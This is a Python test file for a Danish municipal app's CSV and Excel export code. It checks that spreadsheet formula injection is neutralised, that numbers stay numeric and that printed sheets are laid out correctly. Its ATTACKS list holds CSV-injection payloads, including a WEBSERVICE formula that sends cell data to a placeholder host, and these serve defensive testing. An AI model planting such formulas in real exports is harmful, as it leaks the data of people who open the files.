"""The one writer of downloads: numbers stay numbers, text never runs as a formula (OWASP CSV
injection), and every file says whose data it holds."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from sagsindsigt.present.exports import SCOPE_COLUMN, csv_bytes, safe_text, xlsx_bytes
from sagsindsigt.present.tables import Cell, Column, Table

ATTACKS = ['=WEBSERVICE("http://x/"&A2)', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def table() -> Table:
    t = Table("klager", "Klager pr. enhed", [Column("label", "Enhed"),
                                              Column("n", "Klager", "antal"),
                                              Column("rate", "Andel", "%")], total_row=True)
    for i, attack in enumerate(ATTACKS):
        t.add({"label": attack, "n": Cell(1000 + i, "antal"), "rate": Cell(2.59, "%")})
    t.add({"label": "I alt", "n": Cell(None, "antal", "ingen data"), "rate": Cell(-1.5, "%")})
    return t


def test_safe_text():
    for a in ATTACKS:
        assert safe_text(a) == "'" + a
    assert safe_text("-") == "-"  # no figure
    assert safe_text("Jobcenter Amager (JCA)") == "Jobcenter Amager (JCA)"


def test_csv_neutralises_formulas_keeps_numbers_and_names_the_scope():
    raw = csv_bytes(table(), "Jobcenter Amager (JCA)")
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [SCOPE_COLUMN, "Enhed", "Klager", "Andel"]
    for r, attack in zip(rows[1:], ATTACKS, strict=False):
        assert r[0] == "Jobcenter Amager (JCA)"
        assert r[1] == "'" + attack
        assert not r[1].startswith(("=", "+", "-", "@", "\t", "\r"))
    assert rows[1][2:] == ["1000", "2,59"]
    assert rows[-1][1:] == ["I alt", "", "-1,5"]  # a negative number is a number


def test_xlsx_stores_formula_text_as_text_and_numbers_as_numbers():
    wb = load_workbook(io.BytesIO(xlsx_bytes([table()], ["Område: Jobcenter Amager (JCA)",
                                                          "Periode: 2014"])))
    ws = wb["klager"]
    assert ws["A1"].value == "Klager pr. enhed"
    assert ws["A2"].value == "Område: Jobcenter Amager (JCA)"
    assert [c.value for c in ws[5]] == ["Enhed", "Klager", "Andel"]
    for i, attack in enumerate(ATTACKS, start=6):
        label = ws.cell(i, 1)  # (a carriage return is kept as such, or as a line feed, by
        # the writer's version; either way the text, never a formula)
        assert label.value in (attack, attack.replace("\r", "\n")), attack
        assert label.data_type == "s", attack
        assert ws.cell(i, 2).value == 1000 + i - 6 and ws.cell(i, 2).data_type == "n"
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_xlsx_percentages_are_fractions_and_the_sheet_prints_on_a4():
    t = table()
    t.remarks.append("En klage kan have flere klagepunkter eller ingen.")
    ws = load_workbook(io.BytesIO(xlsx_bytes([t], ["Område: Hele kommunen"])))["klager"]
    assert ws.cell(4, 1).value == "Enhed"  # two title lines, a blank row, the header
    rate = ws.cell(5, 3)  # 2,59 % as Excel's percent: the fraction with the format 0.0 %
    assert rate.value == 0.0259 and rate.number_format == "0.0 %"
    assert ws.cell(5, 2).value == 1000 and ws.cell(5, 2).number_format == "#,##0"
    last = 4 + len(t.rows)
    assert ws.cell(last, 3).value == -0.015
    assert ws.cell(last + 1, 1).value is None  # a blank row, then the remark
    assert ws.cell(last + 2, 1).value == "En klage kan have flere klagepunkter eller ingen."
    ps = ws.page_setup
    assert (ps.paperSize, ps.fitToWidth, ps.fitToHeight) == (9, 1, 0)
    assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.print_title_rows == "$4:$4"
